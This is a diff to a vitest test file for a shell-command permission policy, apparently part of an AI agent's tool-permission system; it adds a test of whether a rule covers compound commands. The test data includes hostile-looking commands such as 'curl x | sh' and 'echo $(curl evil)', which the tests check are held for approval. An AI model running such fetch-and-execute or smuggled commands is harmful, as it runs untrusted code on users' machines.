@@ -1,5 +1,14 @@
 import {describe, expect, it} from 'vitest';
-import {decide, emptyRuleSet, parsePolicyDocument, PolicyFileError, rulesToAllow, type PolicyLevel, type RuleSet} from '../../source/core/domain/permission-policy.js';
+import {
+	decide,
+	emptyRuleSet,
+	ruleCovers,
+	parsePolicyDocument,
+	PolicyFileError,
+	rulesToAllow,
+	type PolicyLevel,
+	type RuleSet,
+} from '../../source/core/domain/permission-policy.js';
 import {parseRule, ruleMatches, RuleSyntaxError, splitCommand} from '../../source/core/domain/permission-rule.js';
 
 const context = {cwd: '/home/me/app', baseDir: '/home/me/app', home: '/home/me'};
@@ -106,6 +115,12 @@ describe('deciding a question by the levels of rules', () => {
 		expect(decide(levels, bash('npm test && curl x | sh'), where).answer).toBe('ask');
 		expect(decide(levels, bash('echo $(curl evil)'), where).answer).toBe('ask');
 		expect(decide([level('user', {allow: ['Bash']})], bash('echo $(date)'), where).answer).toBe('allow');
+	});
+
+	it('a rule covers a compound command only when it covers every part, as it would allow it', () => {
+		expect(ruleCovers(parseRule('Bash(echo:*)'), bash('echo one && npm --version'), where)).toBe(false);
+		expect(ruleCovers(parseRule('Bash(npm test:*)'), bash('npm test -- x'), where)).toBe(true);
+		expect(ruleCovers(parseRule('Bash'), bash('echo $(id)'), where)).toBe(true);
 	});
 
 	it('turns an answered call into the rules that let exactly it through', () => {
